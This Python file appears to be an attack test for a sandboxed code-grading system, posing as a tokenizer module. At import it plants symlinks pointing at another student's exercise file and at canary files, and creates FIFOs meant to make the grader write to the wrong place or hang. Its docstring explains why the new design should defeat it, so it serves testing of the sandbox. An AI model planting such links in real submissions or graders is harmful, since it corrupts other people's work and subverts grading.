"""ATTACK shared_links (kind: links and FIFOs in the shared folder).

What it tries: make the judge, which runs unconfined, write or block on a path of the worker's choosing. At
import it puts, in its own folder (the one the worker may write, which the judge used to open): ``tok.json``, the
name a visible test reads back, as a symbolic link to the next submission's ``exercises/ex4_scaling.py`` in
the batch (and to a file ``atk-shared_links-victim`` in /tmp in student mode); each ``broken-*.json`` that a
hidden test writes as a link to ``canary.txt`` files it can name; ``no-such-file.json`` and ``output.txt`` of
the next worker as FIFOs, which a judge opening them would wait on for ever. Its ``save`` makes the path it is
given a link too. A judge that wrote ``student.files / name`` then wrote into another student's submission (that
student lost ex4 in the same batch) or anywhere the grading user can.

Why it must fail under the new design: the judge never opens a path in the worker's folder; files cross as bytes
(``student.write``/``student.read``: the worker writes them, and reads back a regular file only, opened
without following a link), and the next worker's folder is made fresh. The mark that it ran: the links are
made (the test's read of ``tok.json`` is refused as not a regular file).
"""

from __future__ import annotations

import glob
import os

HERE = os.getcwd()  # the worker's folder: <box>/<student>/work/worker-N in a batch


def _victims() -> list[str]:
    box = os.path.dirname(os.path.dirname(os.path.dirname(HERE)))
    found = sorted(glob.glob(os.path.join(box, "*", "exercises", "ex4_scaling.py")))
    return found or ["/tmp/atk-shared_links-victim"]


def _link(name: str, target: str) -> None:
    try:
        if os.path.lexists(name):
            os.unlink(name)
        os.symlink(target, name)
    except OSError:
        pass


def _plant() -> None:
    victim = _victims()[-1]
    _link("tok.json", victim)
    for case in ("not-json", "a-json-list", "a-json-string"):
        _link(f"broken-{case}.json", os.path.join(os.path.dirname(os.path.dirname(HERE)), "canary.txt"))
    for name in ("no-such-file.json",):
        try:
            os.mkfifo(name)
        except OSError:
            pass
    base, _, number = os.path.basename(HERE).rpartition("-")
    if number.isdigit():  # the next worker's folder, made in advance with a FIFO for its output (denied by Landlock)
        ahead = os.path.join(os.path.dirname(HERE), f"{base}-{int(number) + 1}")
        try:
            os.mkdir(ahead)
            os.mkfifo(os.path.join(ahead, "output.txt"))
        except OSError:
            pass


_plant()


class SpecialTokenizer:
    def __init__(self, *args, **kwargs) -> None:
        _plant()
        self.special_ids = {}

    def save(self, path) -> None:
        _link(str(path), _victims()[-1])

    @classmethod
    def load(cls, path):
        raise NotImplementedError("ex1: shared_links only plants links")

    def encode(self, *args, **kwargs):
        raise NotImplementedError("ex1: shared_links only plants links")
